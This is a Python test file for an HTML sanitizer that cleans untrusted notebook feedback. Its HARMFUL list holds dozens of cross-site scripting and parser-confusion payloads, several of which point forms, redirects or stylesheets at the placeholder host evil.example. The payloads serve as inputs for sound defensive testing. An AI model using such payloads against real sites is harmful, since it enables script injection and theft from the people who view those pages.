"""What strangers wrote does nothing in a page, and what they may write is still shown."""

import ast
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser

import nbjudge
from nbjudge.feedback import sanitize
from nbjudge.feedback.sanitize import ATTRIBUTES, KEPT, PROPERTIES, TOO_MUCH, Pictures, clean_html

DOT = "data:image/png;base64,iVBORw0KGgo="
WRAPPED = DOT.replace("Kg", "Kg\n").replace("iV", "iV\r\n ")
HARMFUL = [
    "<script>x()</script>",
    "<ScRiPt src=//evil.example>x()</sCrIpT>",
    "<scr<script></script>ipt>x()</script>",
    '<img src=x onerror="x()">',
    f'<img src="{DOT}" onload="x()">',
    "<svg onload=x()><script>x()</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()>",
    '<a href="javascript:x()">y</a>',
    '<a href=" java\tscript:x()">y</a>',
    '<a href="data:text/html,<script>x()</script>">y</a>',
    '<iframe srcdoc="<script>x()</script>"></iframe>',
    "<style>@import url(https://evil.example)</style>",
    '<p style="background:url(https://evil.example)">y</p>',
    '<p style="position:fixed">y</p>',
    '<form action="https://evil.example"><input name=a><button>y</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example"><link rel=stylesheet href=//evil.example>',
    '<img src="https://evil.example/y.png" alt="y">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<div id="top" class="total">y</div>',
    "<!--[if IE]><script>x()</script><![endif]-->",
    "<a href='&#106;avascript:x()'>y</a>",
    "<a href='java\0script:x()' xlink:href='javascript:x()'>y</a>",
    '<svg><a xlink:href="javascript:x()"><text>y</text></a></svg>',
    '<svg><style><img src="</style><img src=x onerror=x()>"></style></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=x()>",
    '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
    "<details ontoggle=x() open><summary onclick=x()>y</summary></details>",
    "<select><template><script>x()</script></template><option>y</select>",
    "<table><tr><td><script>x()</td></tr></table>",
    "<xmp><script>x()</script></xmp><plaintext><script>x()</script>",
    "<p style='color:expression(x());border:url(https://evil.example)'>y</p>",
    "<p style='color:red\\;position:fixed;color:\\75rl(//evil.example)'>y</p>",
    "<p style='color:red/*;*/;border:image-set(\"//evil.example\" 1x)'>y</p>",
    f"<p title='{DOT}' background='{DOT}'>y</p>",
    f"<img src='{DOT}' srcset='https://evil.example 1x' id=z usemap=#z>",
    "<img src='data:image/svg+xml,<svg onload=x()>'>",
    "<a href='https://example.com' target=_top ping=https://evil.example>y</a>",
    "<ScRiPt\0>x()</script><scr\0ipt>x()</scr\0ipt>",
    "<my-script onclick=x()>y</my-script><![CDATA[<script>x()</script>]]><?x <script>?>",
    "<p>&lt;script&gt;x()&lt;/script&gt;</p>",
]
# These stay, as text.
SAID = [
    '<abbr title="<img src=x onerror=x()>">y</abbr>',
    '<img alt="<img src=x onerror=x()>"><img alt="<script>x()</script>">',
    '<img alt="&lt;img alt=&quot; onload=x() &quot;&gt;">',
]
HARMLESS = [
    "<h2>Title</h2><p>a <em>b</em> &lt; <code>c</code></p>",
    '<table><thead><tr><th scope="col">a</th></tr></thead></table>',
    "<details><summary>Hint</summary><p>Look.</p></details>",
    f'<img alt="A dot" src="{DOT}">',
    '<a href="https://example.com/a?b=c#d">e</a>',
    '<span class="k">def</span>',
    '<p style="text-align:right">1</p>',
    '<div class="highlight"><pre><span class="kn">import</span> a\n</pre></div>',
    '<ol start="3" type="a" reversed=""><li>a<ul><li>b</li></ul></li></ol>',
    '<table><tbody><tr><td colspan="2" rowspan="2" align="right">a</td></tr></tbody></table>',
    "<dl><dt>a</dt><dd>b</dd></dl><blockquote>c</blockquote><hr>",
    '<figure><img src="data:image/svg+xml;base64,PHN2Zy8+" width="50%"></figure>',
    "<p>$\\sum_{i&lt;n} x_i$ and \\(a &amp; b\\)</p>",
    '<a href="mailto:someone@example.com">m</a><abbr title="a &lt; b">c</abbr>',
    f"<p>{DOT} is a picture, data:image/png;base64,0 is another</p>",
    "<pre>  45%|\u2588\u2588\u258c   | 45/100\n</pre><p>\U0001f600 \u65e5\u672c</p>",
    "",
]


@pytest.mark.parametrize("source", HARMFUL)
def test_nothing_runs_and_nothing_is_fetched(source: str) -> None:
    cleaned = clean_html(source)
    for trace in ("x()</", "<script", "onerror", "onload", "javascript", "evil", "fixed", "data:t"):
        assert trace not in cleaned.replace("&lt;", "")
    for trace in ("<form", "<input", "<style", "<meta", "<base", "<link", "<iframe", "<svg", "id="):
        assert trace not in cleaned


@pytest.mark.parametrize("source", HARMLESS)
def test_what_is_harmless_stays(source: str) -> None:
    assert clean_html(source) == source


def test_a_picture_that_would_be_fetched_leaves_its_description() -> None:
    assert clean_html('<p><img src="figure.png" alt="A figure"></p>') == "<p>A figure</p>"


@pytest.mark.parametrize(
    "source",
    ["<div>" * 20_000, "<x " + "a=b " * 200_000, "<x " + "a " * 200_000, "&" * 500_000],
)
def test_what_would_take_minutes_is_left_out(source: str) -> None:
    assert clean_html(source) == TOO_MUCH


def test_a_large_picture_is_not_too_long() -> None:
    picture = f'<img alt="" src="data:image/png;base64,{"iVBORw0K" * 100_000}">'
    assert clean_html(picture) == picture


def test_a_browser_finds_nothing_but_what_is_listed(browser: Browser) -> None:
    """It reads what was cleaned as it was written; a page in which it would not may be a trap."""
    made = [clean_html(source).replace(' style=""', "") for source in [*HARMFUL, *SAID, *HARMLESS]]
    opened = browser.new_page()
    found = opened.evaluate(
        """sources => sources.map(source => {
            const page = new DOMParser().parseFromString(source, "text/html");
            const names = [...page.querySelectorAll("body *")].map(
                e => [e.localName, [...e.attributes].map(a => a.name), [...e.style]]);
            return [page.head.innerHTML, page.body.innerHTML, names];
        })""",
        made,
    )
    opened.close()
    for source, (head, body, elements) in zip(made, found, strict=True):
        assert head == ""
        assert clean_html(body) == source
        for tag, names, properties in elements:
            assert tag in KEPT.split()
            assert {*names} <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
            assert all(re.match("|".join(PROPERTIES.split()), name) for name in properties)


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("COLOR : Red ;", "color:red"),
        ("position:fixed; color:#fff; z-index:9", "color:#fff"),
        ("border: 1px solid rgba(0, 0, 0, 0.5) !important", None),
        ("background-color: hsl(120 100% 25% / 50%)", None),
        ("border: url(x)", ""),
        ("color: var(--x); white-space: pre", "white-space:pre"),
        ("color:" + "red " * 200, ""),
    ],
)
def test_styles(written: str, kept: str | None) -> None:
    """A style has plain values: no address, no string, no escape, no variable."""
    cleaned = clean_html(f'<b style="{written}">y</b>').replace(' style=""', "")
    plain = re.sub(r"\s", "", written if kept is None else kept)
    assert re.sub(r"\s", "", cleaned) == (f'<bstyle="{plain}">y</b>' if plain else "<b>y</b>")


def test_boxes_keep_their_words_apart() -> None:
    source = '<SECTION id="a"><header>b</header>c</SECTION ><navy>d</navy>'
    assert clean_html(source) == "<div><div>b</div>c</div>d"


def test_what_a_browser_would_not_show_is_left_out_whole() -> None:
    source = "a<style>b</style><svg><text>c</text></svg><title>d</title><script>e"
    assert clean_html(source) == "a"


@pytest.mark.parametrize("source", ["a\ud800b", "<p title='\udfff'>a\ud800b", "a\udc00\ud800b"])
def test_half_a_letter_stops_nobody(source: str) -> None:
    cleaned = clean_html(source)
    assert re.fullmatch(r"(<p>)?a\?+b(</p>)?", cleaned)
    assert cleaned.encode()


def test_a_description_is_text() -> None:
    assert clean_html('<img alt="a < b &amp; <b>c">') == "a &lt; b &amp; &lt;b&gt;c"


@pytest.mark.parametrize("quote", ["'", '"'])
def test_pictures_may_be_wrapped_in_lines(quote: str) -> None:
    source = f"<img src={quote}{WRAPPED}{quote} alt=a><img src={quote}{DOT}{quote} alt=b>"
    assert clean_html(source) == f'<img src="{DOT}" alt="a"><img src="{DOT}" alt="b">'


def test_a_number_in_place_of_a_picture_is_no_picture_of_another() -> None:
    other = DOT.replace("iVBO", "AAAA")
    source = f'<img src="{DOT}"><img src="data:image/png;base64,0"><img src="{other}">'
    assert clean_html(source) == source
    hidden = source.replace("data:", "data&#58;", 1)
    assert clean_html(hidden) == source


def test_a_picture_is_given_back_once() -> None:
    pictures = Pictures()
    taken = pictures.take(DOT)
    assert len(taken) < len(DOT)
    assert pictures.give_back(taken * 2) == DOT + taken


def test_classes_and_links_are_those_of_a_highlighter_and_of_people() -> None:
    assert clean_html('<div class="total">a</div><p class="k">b</p>') == "<div>a</div><p>b</p>"
    assert clean_html(f'<a href="https://example.com/{"y" * 2000}">a</a>') == "<a>a</a>"


def test_many_styles_on_what_html_repeats_are_dropped() -> None:
    few, many = ('<b style="color:red">y</b>' * number for number in (50, 300))
    assert clean_html(few) == few
    assert clean_html(many) == "<b>y</b>" * 300


def test_what_would_come_out_too_long_is_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sanitize, "MOST_MADE", 100)
    assert clean_html("<p>" + "y" * 90) == f"<p>{'y' * 90}</p>"
    assert clean_html("<p>" + "y" * 100) == TOO_MUCH


def imported(path: Path) -> set[str]:
    """Name the packages that a module imports."""
    names = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            names |= {alias.name.partition(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom):
            names.add(node.module.partition(".")[0])
    return names


def test_nothing_here_rests_on_bleach(tmp_path: Path) -> None:
    """Nobody keeps it any more. nbconvert brings it still, and may stop."""
    modules = [*Path(nbjudge.__file__).parent.rglob("*.py")]
    assert any("nh3" in imported(path) for path in modules)
    assert [path for path in modules if "bleach" in imported(path)] == []
    (tmp_path / "m.py").write_text("def f():\n    from bleach.sanitizer import Cleaner")
    assert imported(tmp_path / "m.py") == {"bleach"}
